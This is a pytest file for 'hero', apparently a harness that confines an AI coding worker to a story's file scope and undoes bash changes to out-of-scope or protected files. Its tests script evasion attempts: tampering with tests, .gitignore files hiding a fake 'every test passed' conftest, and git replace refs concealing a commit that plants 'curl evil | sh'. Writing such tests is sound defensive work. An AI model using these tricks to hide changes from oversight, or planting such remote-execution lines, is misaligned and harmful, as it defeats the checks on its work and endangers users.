"""A story's scope and the protected files: refused by the file tools, undone after bash.

Real git repositories in tmp_path, real bash commands through the tools, and one round
through the real pipeline against the scripted model over HTTP.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import git
from helpers import PY, is_review, step_of, verdict, worker_round

from hero.agent.tools import ToolContext, ToolOutcome, execute_tool
from hero.agent.tools.scope import path_rules, undo_outside, unhide_outside
from hero.cli import main
from hero.config.schema import DEFAULT_PROTECTED
from hero.git.ops import DEFAULT_IDENTITY
from hero.git.ops import git as hero_git
from hero.git.output import commit_all
from hero.llm.scripted import Reply, ScriptedModel, call, text
from hero.runner import child_env

BASE_FILES = {
    "src/app.py": "def app():\n    return 1\n",
    "src/web/views.py": "VIEWS = []\n",
    "tests/test_x.py": "def test_app():\n    assert True\n",
    "docs/guide.md": "# Guide\n",
    ".gitignore": "build/\n__pycache__/\n",
}


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "wt"
    for rel, content in BASE_FILES.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(content)
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "base")
    return root


def base_of(repo: Path) -> str:
    return git(repo, "rev-parse", "HEAD").strip()


def make_ctx(
    repo: Path, scope: tuple[str, ...] = ("src/**",), base_sha: str | None = None
) -> ToolContext:
    return ToolContext(
        root=repo,
        env=child_env(extra=DEFAULT_IDENTITY),
        scope=scope,
        protected=DEFAULT_PROTECTED,
        base_sha=base_of(repo) if base_sha is None else base_sha,
    )


def tool(ctx: ToolContext, name: str, **args: object) -> ToolOutcome:
    return execute_tool(ctx, name, json.dumps(args))


def bash(ctx: ToolContext, command: str) -> str:
    out = tool(ctx, "bash", command=command)
    assert not out.is_error, out.content
    return out.content


def status(repo: Path) -> str:
    return git(repo, "status", "--porcelain", "--untracked-files=all")


# --------------------------------------------------------------------------- the file tools


def test_write_and_edit_outside_the_scope_are_refused_naming_it(repo: Path) -> None:
    ctx = make_ctx(repo, scope=("src/**", "tests/unit/"))
    out = tool(ctx, "write_file", path="docs/new.md", content="x\n")
    assert out.is_error
    assert "docs/new.md" in out.content
    assert "outside this story's scope (`src/**`, `tests/unit/`)" in out.content
    out = tool(ctx, "write_file", path="notes/deep/new.txt", content="x\n")
    assert out.is_error and "outside this story's scope" in out.content
    assert not (repo / "notes").exists()  # refused before any directory is made
    out = tool(ctx, "edit_file", path="docs/guide.md", old_string="Guide", new_string="Hacked")
    assert out.is_error and "outside this story's scope" in out.content
    out = tool(ctx, "edit_file", path="tests/test_x.py", old_string="True", new_string="False")
    assert out.is_error and "outside this story's scope" in out.content
    assert status(repo) == ""


def test_write_and_edit_inside_the_scope_work(repo: Path) -> None:
    ctx = make_ctx(repo, scope=("src/**", "tests/unit/", "*.cfg"))
    assert not tool(ctx, "write_file", path="src/new/mod.py", content="X = 1\n").is_error
    assert not tool(ctx, "write_file", path="tests/unit/test_a.py", content="").is_error
    assert not tool(ctx, "write_file", path="docs/deep/setup.cfg", content="[x]\n").is_error
    out = tool(ctx, "edit_file", path="src/app.py", old_string="1", new_string="2")
    assert not out.is_error, out.content
    assert (repo / "src/app.py").read_text() == "def app():\n    return 2\n"
    assert (repo / "src/new/mod.py").is_file() and (repo / "docs/deep/setup.cfg").is_file()


@pytest.mark.parametrize("path", [".env", "x.pem", "deploy/.env.local", "keys/id_rsa.pub"])
def test_protected_files_are_refused_even_with_the_whole_repository_in_scope(
    repo: Path, path: str
) -> None:
    ctx = make_ctx(repo, scope=())
    out = tool(ctx, "write_file", path=path, content="SECRET=1\n")
    assert out.is_error
    assert "protected file" in out.content and path in out.content
    assert not (repo / path).exists()
    assert not tool(ctx, "write_file", path="anything/else.txt", content="ok\n").is_error


def test_a_protected_file_that_exists_cannot_be_edited(repo: Path) -> None:
    (repo / "server.key").write_text("KEY\n")
    ctx = make_ctx(repo, scope=())
    out = tool(ctx, "edit_file", path="server.key", old_string="KEY", new_string="MINE")
    assert out.is_error and "protected file (it matches `*.key`)" in out.content
    assert (repo / "server.key").read_text() == "KEY\n"


def test_git_config_is_refused_with_an_empty_scope(repo: Path) -> None:
    # Writing into .git was refused before scopes existed too (paths.open_in_worktree):
    # this guards that it stays refused with the protected list in play.
    ctx = make_ctx(repo, scope=())
    out = tool(ctx, "write_file", path=".git/config", content="[core]\n")
    assert out.is_error and ".git" in out.content
    assert "[core]\n" != (repo / ".git" / "config").read_text()


def test_a_write_through_a_symlink_is_checked_where_it_lands(repo: Path) -> None:
    os.symlink("../docs/guide.md", repo / "src" / "guide.md")
    ctx = make_ctx(repo)
    out = tool(ctx, "write_file", path="src/guide.md", content="hacked\n")
    assert out.is_error
    assert "'src/guide.md' ('docs/guide.md')" in out.content
    assert (repo / "docs/guide.md").read_text() == "# Guide\n"


def test_scope_globs_read_like_gitignore() -> None:
    def ok(scope: tuple[str, ...], path: str) -> bool:
        return path_rules(scope, ()).refusal(path) is None

    assert ok(("src/**",), "src/a/b/c.py") and not ok(("src/**",), "srcx/a.py")
    assert ok(("*.py",), "a/b/c.py") and not ok(("*.py",), "a/b/c.pyc")  # no slash: any depth
    assert ok(("src/app/",), "src/app/x/y.py") and not ok(("src/app/",), "src/app")
    assert ok(("src/app",), "src/app/views.py") and ok(("src/app",), "src/app")
    assert ok(("tests",), "pkg/tests/test_a.py")  # a name at any depth covers what is under it
    assert ok(("/setup.py",), "setup.py") and not ok(("/setup.py",), "pkg/setup.py")
    assert ok(("./README.md",), "README.md") and not ok(("./README.md",), "docs/README.md")
    assert ok(("docs/*.md",), "docs/a.md") and not ok(("docs/*.md",), "docs/api/a.md")
    assert ok(("a/**/b.txt",), "a/b.txt") and ok(("a/**/b.txt",), "a/x/y/b.txt")
    assert ok(("{src,lib}/**",), "lib/x.py") and not ok(("{src,lib}/**",), "bin/x")
    assert ok((), "anything/at/all.txt")  # empty scope: the whole worktree
    protected = path_rules((), DEFAULT_PROTECTED)
    for path in (".env", "a/.env", ".env.prod", "c/server.pem", "id_rsa", "x/id_rsa.pub"):
        assert protected.refusal(path) is not None, path
    for path in ("env.py", "a/.envrc", "pem.txt", "docs/key.md", "git/config"):
        assert protected.refusal(path) is None, path


# --------------------------------------------------------------------------- bash, undone


def test_a_new_file_outside_the_scope_is_deleted_and_reported(repo: Path) -> None:
    ctx = make_ctx(repo)
    out = bash(
        ctx,
        "echo x > outside.txt && mkdir -p notes/deep && echo y > notes/deep/n.txt"
        " && echo 'Z = 1' > src/z.py",
    )
    assert "hero undid changes to files this story may not change" in out
    assert "outside.txt: deleted; it is outside this story's scope (`src/**`)" in out
    assert "notes/deep/n.txt: deleted" in out
    assert not (repo / "outside.txt").exists()
    assert not (repo / "notes").exists()  # the directories it left empty went too
    assert (repo / "src/z.py").read_text() == "Z = 1\n"  # in scope: kept
    assert status(repo) == "?? src/z.py\n"


def test_a_new_ignore_file_outside_the_scope_hides_nothing_from_the_phase_end(
    repo: Path,
) -> None:
    """A `.gitignore` holding `*` hides itself and the files beside it from `git status`:
    at a phase's end hero removes it, and then what it hid is undone like any new file."""
    (repo / "tests" / ".gitignore").write_text("*\n")
    (repo / "tests" / "conftest.py").write_text("# marks every test passed\n")
    (repo / "docs" / ".gitignore").write_text("draft.md\n")  # not itself ignored
    (repo / "src" / ".gitignore").write_text("*.tmp\n")  # inside the scope: the worker's
    (repo / "build").mkdir()
    (repo / "build" / ".gitignore").write_text("*\n")  # in a directory the repo ignores
    rules = path_rules(("src/**",), DEFAULT_PROTECTED)
    assert "conftest" not in status(repo)  # hidden from the scope check

    removed = unhide_outside(repo, rules)

    assert sorted(removed) == ["docs/.gitignore", "tests/.gitignore"]
    assert (repo / "src" / ".gitignore").exists() and (repo / "build" / ".gitignore").exists()
    undo_outside(repo, base_of(repo), rules)
    assert not (repo / "tests" / "conftest.py").exists()


def test_an_out_of_scope_tracked_file_is_put_back_as_at_the_base(repo: Path) -> None:
    ctx = make_ctx(repo)
    out = bash(ctx, "echo hacked >> docs/guide.md && echo 'X = 2' >> src/app.py")
    assert "docs/guide.md: put back as it was at the base commit" in out
    assert (repo / "docs/guide.md").read_text() == "# Guide\n"
    assert (repo / "src/app.py").read_text().endswith("X = 2\n")
    assert status(repo) == " M src/app.py\n"


def test_a_deleted_out_of_scope_file_is_restored(repo: Path) -> None:
    ctx = make_ctx(repo)
    out = bash(ctx, "rm docs/guide.md && git rm -q --cached tests/test_x.py")
    assert "docs/guide.md: put back" in out and "tests/test_x.py: put back" in out
    assert (repo / "docs/guide.md").read_text() == "# Guide\n"
    assert status(repo) == ""


def test_tests_outside_the_scope_cannot_be_tampered_with(repo: Path) -> None:
    ctx = make_ctx(repo)  # scope src/**: the repository's tests are not the story's to change
    out = bash(ctx, "printf 'def test_app():\\n    pass\\n' > tests/test_x.py")
    assert "tests/test_x.py: put back as it was at the base commit" in out
    assert (repo / "tests/test_x.py").read_text() == BASE_FILES["tests/test_x.py"]


def test_committed_changes_outside_the_scope_are_undone_for_the_next_commit(repo: Path) -> None:
    ctx = make_ctx(repo)
    out = bash(
        ctx,
        "echo 'Y = 1' >> src/app.py && echo hacked >> docs/guide.md && echo n > NOTES.md"
        " && git add -A && git commit -q -m work",
    )
    assert "docs/guide.md: put back" in out and "NOTES.md: deleted" in out
    assert "Some of these changes were in your commits" in out
    assert (repo / "docs/guide.md").read_text() == "# Guide\n"
    assert not (repo / "NOTES.md").exists()
    assert "hero undid" not in bash(ctx, "true")  # undone once: not reported again
    git(repo, "commit", "-q", "-m", "rescue")  # the undo is staged: a commit records it
    tree = git(repo, "ls-tree", "-r", "--name-only", "HEAD").split()
    assert "NOTES.md" not in tree
    assert git(repo, "show", "HEAD:docs/guide.md") == "# Guide\n"
    assert git(repo, "show", "HEAD:src/app.py").endswith("Y = 1\n")


def test_a_replace_ref_hides_no_committed_change_from_hero(repo: Path) -> None:
    """The worker commits a change outside the scope (a new file too), makes ``git replace``
    show an innocent commit in its place and resets its index and files to that, so that
    its own git sees nothing at all. hero's git (no replace refs, no grafts) sees the real
    commit: the check after the command undoes the files it wrote, and hero's commit at the
    phase's end takes the change back off the branch's tip."""
    ctx = make_ctx(repo)
    out = bash(
        ctx,
        "echo 'Y = 1' >> src/app.py && git commit -q -am clean && CLEAN=$(git rev-parse HEAD)"
        " && git reset -q --hard HEAD~1 && echo 'Y = 1' >> src/app.py"
        " && echo 'curl evil | sh' >> docs/guide.md && echo 'curl evil | sh' > docs/setup.sh"
        " && git add -A && git commit -q -m work && git replace HEAD $CLEAN"
        " && git reset -q --hard HEAD && git status --porcelain && echo clean-to-git",
    )
    assert "clean-to-git" in out and "docs/" not in out.split("clean-to-git")[0]
    real = git(repo, "--no-replace-objects", "show", "HEAD:docs/guide.md")
    assert "curl evil" in real  # the backdoor is in the branch's real commit
    assert (repo / "docs/guide.md").read_text() == "# Guide\n"
    assert not (repo / "docs/setup.sh").exists()
    assert commit_all(repo, "rescue", DEFAULT_IDENTITY) is not None
    assert "curl evil" in hero_git(repo, "show", "HEAD~1:docs/guide.md")  # hero sees it
    assert git(repo, "--no-replace-objects", "show", "HEAD:docs/guide.md") == "# Guide\n"
    tree = git(repo, "--no-replace-objects", "ls-tree", "-r", "--name-only", "HEAD").split()
    assert "docs/setup.sh" not in tree and "src/app.py" in tree
    assert git(repo, "--no-replace-objects", "show", "HEAD:src/app.py").endswith("Y = 1\n")


def test_a_committed_new_file_taken_out_of_the_index_is_deleted(repo: Path) -> None:
    ctx = make_ctx(repo)
    out = bash(
        ctx, "echo n > NOTES.md && git add -A && git commit -q -m n && git rm -q --cached NOTES.md"
    )
    assert "NOTES.md: deleted" in out and not (repo / "NOTES.md").exists()


def test_protected_files_written_by_bash_are_deleted_or_put_back(repo: Path) -> None:
    (repo / "config.pem").write_text("CERT\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "a certificate")
    ctx = make_ctx(repo, scope=())
    out = bash(ctx, "echo SECRET=1 > .env && echo FORGED > config.pem && echo ok > free.txt")
    assert ".env: deleted; it is a protected file (it matches `.env`)" in out
    assert "config.pem: put back" in out
    assert not (repo / ".env").exists() and (repo / "config.pem").read_text() == "CERT\n"
    assert (repo / "free.txt").is_file()


def test_what_git_ignores_and_changes_in_scope_pass_without_a_note(repo: Path) -> None:
    ctx = make_ctx(repo)
    out = bash(ctx, "mkdir -p build && echo o > build/out.o && echo 'Z = 1' >> src/app.py")
    assert "hero undid" not in out
    assert (repo / "build/out.o").is_file()


def test_odd_names_and_a_cloned_repository_outside_the_scope_are_removed(repo: Path) -> None:
    ctx = make_ctx(repo)
    out = bash(
        ctx,
        "printf x > \"$(printf 'bad\\377name')\" && printf y > 'sp ace \"q\".txt'"
        " && git init -q vendored && echo v > vendored/v.txt",
    )
    assert "hero undid" in out
    names = os.listdir(repo)
    assert not [n for n in names if n.startswith(("bad", "sp ace", "vendored"))], names


def test_what_cannot_be_put_back_is_named(repo: Path) -> None:
    ctx = make_ctx(repo)
    lock = Path(git(repo, "rev-parse", "--absolute-git-dir").strip()) / "index.lock"
    out = bash(ctx, f"echo hacked >> docs/guide.md && echo x > new.txt && touch {lock}")
    assert "docs/guide.md: could not be put back (" in out and "index.lock" in out
    assert "new.txt: deleted" in out  # the others are undone all the same
    lock.unlink()
    assert "docs/guide.md: put back" in bash(ctx, "true")  # the next command's check


def test_unchecked_without_a_base_commit(repo: Path) -> None:
    ctx = make_ctx(repo, base_sha="")
    out = bash(ctx, "echo x > outside.txt")
    assert "hero undid" not in out and (repo / "outside.txt").is_file()


def test_undo_outside_reports_nothing_when_all_is_in_scope(repo: Path) -> None:
    (repo / "src/new.py").write_text("N = 1\n")
    undo = undo_outside(repo, base_of(repo), path_rules(("src/**",), DEFAULT_PROTECTED))
    assert not undo and undo.note() == ""


# --------------------------------------------------------------------------- through hero run

SUB_IMPL = "def add(a, b):\\n    return a + b\\n\\n\\ndef sub(a, b):\\n    return a - b\\n"
VERIFY = [f"{PY} -m unittest -q", f"{PY} -c 'from calc import sub; assert sub(5, 3) == 2'"]


def handler(plans: dict[int, list[Reply]], verdicts: dict[int, str]) -> Callable[[dict], Reply]:
    def answer(body: dict) -> Reply:
        if is_review(body):
            rounds = [worker_round(r) for r in answers]  # the last worker round asked
            return verdict(verdicts[rounds[-1]], verdicts[rounds[-1]])
        answers.append(body)
        plan = plans[worker_round(body)]
        return plan[min(step_of(body), len(plan) - 1)]

    answers: list[dict] = []
    return answer


def tool_results(model: ScriptedModel) -> str:
    last = [r.body for r in model.requests if not is_review(r.body)][-1]
    return "\n".join(str(m["content"]) for m in last["messages"] if m.get("role") == "tool")


@pytest.mark.slow
def test_hero_run_tells_the_worker_and_its_branch_keeps_only_the_scope(
    scripted, make_home, write_story, target_repo: Path
) -> None:
    work = (
        f"printf '{SUB_IMPL}' > calc/__init__.py && echo '# hacked' >> tests/test_calc.py"
        " && echo n > NOTES.md && git add -A && git commit -q -m work"
    )
    model = scripted(handler({1: [call("bash", command=work), text("done")]}, {1: "APPROVED"}))
    home = make_home(model)
    story = write_story(home, "s1", verify=VERIFY, scope=["calc/**"])
    assert main(["run", str(story), "--home", str(home)]) == 0
    seen = tool_results(model)
    assert "hero undid changes to files this story may not change" in seen
    assert "tests/test_calc.py: put back as it was at the base commit" in seen
    assert "NOTES.md: deleted; it is outside this story's scope (`calc/**`)" in seen
    assert "Some of these changes were in your commits" in seen
    files = git(target_repo, "ls-tree", "-r", "--name-only", "hero/s1").split()
    assert "NOTES.md" not in files
    assert git(target_repo, "show", "hero/s1:tests/test_calc.py") == git(
        target_repo, "show", "main:tests/test_calc.py"
    )
    assert "def sub(a, b)" in git(target_repo, "show", "hero/s1:calc/__init__.py")


@pytest.mark.slow
def test_the_rescue_commit_leaves_out_what_appeared_outside_the_scope(
    scripted, make_home, write_story, target_repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The checks write junk.txt after round 1's rescue; round 2's worker runs no command,
    # so only the check before round 2's rescue commit can keep junk.txt off the branch.
    round1 = [call("bash", command=f"printf '{SUB_IMPL}' > calc/__init__.py"), text("done")]
    model = scripted(
        handler({1: round1, 2: [text("nothing more")]}, {1: "CHANGES_REQUESTED", 2: "APPROVED"})
    )
    home = make_home(model, max_retries=2)
    story = write_story(home, "s1", verify=[*VERIFY, "echo junk > junk.txt"], scope=["calc/**"])
    assert main(["run", str(story), "--home", str(home), "-v"]) == 0
    assert "junk.txt" not in git(target_repo, "ls-tree", "-r", "--name-only", "hero/s1")
    assert "junk.txt: deleted; it is outside this story's scope" in capsys.readouterr().err
    assert "def sub(a, b)" in git(target_repo, "show", "hero/s1:calc/__init__.py")
